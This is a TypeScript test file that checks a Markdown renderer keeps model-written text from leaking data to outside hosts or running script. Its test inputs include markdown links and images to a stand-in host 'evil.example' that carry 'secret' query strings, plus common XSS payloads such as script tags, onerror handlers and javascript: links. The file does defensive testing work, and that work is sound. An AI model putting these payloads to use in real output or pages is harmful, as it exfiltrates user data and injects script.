// SPDX-License-Identifier: Apache-2.0
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from '@/ui/markdown';

const ours = window.location.origin;

function shown(text: string, own = false): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = renderToStaticMarkup(<Markdown text={text} own={own} />);
  return box;
}

const OUTSIDE = [
  '[click](https://evil.example/?q=secret)',
  '![x](https://evil.example/p.png?q=secret)',
  '<https://evil.example/?q=secret>',
  'https://evil.example/?q=secret',
  'www.evil.example/?q=secret',
  '[a][b]\n\n[b]: https://evil.example/?q=secret "title"',
  '[m](mailto:evil@example.org?body=secret)',
  'evil@example.org',
  '| a |\n|---|\n| [x](https://evil.example) ![y](https://evil.example/p.png) |',
  '- [ ] [x](https://evil.example)\n  > ![y](https://evil.example/p.png)',
  '[x](//evil.example/?q=secret)',
  '[x](/\\evil.example/?q=secret)',
  '[![pic](https://evil.example/p.png)](https://evil.example)',
];

describe('what a model wrote', () => {
  test.each(OUTSIDE)('%s leads nowhere and loads nothing', (text) => {
    const box = shown(text);
    expect(box.querySelectorAll('a, img, [src], [style], iframe, link').length).toBe(0);
    expect(box.textContent).toContain('evil');
  });
  test('the address that hides behind words is told', () =>
    expect(shown('[my bank](https://evil.example/a)').textContent).toBe('my bank (https://evil.example/a)'));
  test('may lead to our own pages', () => {
    expect(shown('[the task](/tasks?task=1)').querySelector('a')?.href).toBe(`${ours}/tasks?task=1`);
    expect(shown(`[the task](${ours}/tasks?task=1)`).querySelector('a')?.href).toBe(`${ours}/tasks?task=1`);
  });
});

describe('what a person wrote', () => {
  test('may lead to the web, and says where to', () => {
    const box = shown('[my bank](https://bank.example/a)', true);
    expect(box.querySelector('a')?.getAttribute('rel')).toContain('noopener');
    expect(box.textContent).toBe('my bank (bank.example)');
    expect(shown('https://bank.example/a', true).textContent).toBe('https://bank.example/a');
  });
  test('loads nothing from elsewhere', () =>
    expect(shown('![x](https://evil.example/p.png)', true).querySelectorAll('img').length).toBe(0));
});

describe('either', () => {
  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload=alert(1)>',
    '`<b>`',
    '```html\n<script>alert(1)</script>\n```',
    '<details open ontoggle=alert(1)>',
    '&lt;img src=x onerror=alert(1)&gt;',
  ])('%s is text', (text) => {
    for (const own of [false, true]) {
      const box = shown(text, own);
      expect(box.querySelectorAll('a, img, script, svg, details, [onerror], [onload]').length).toBe(0);
      expect(box.textContent).not.toBe('');
    }
  });
});
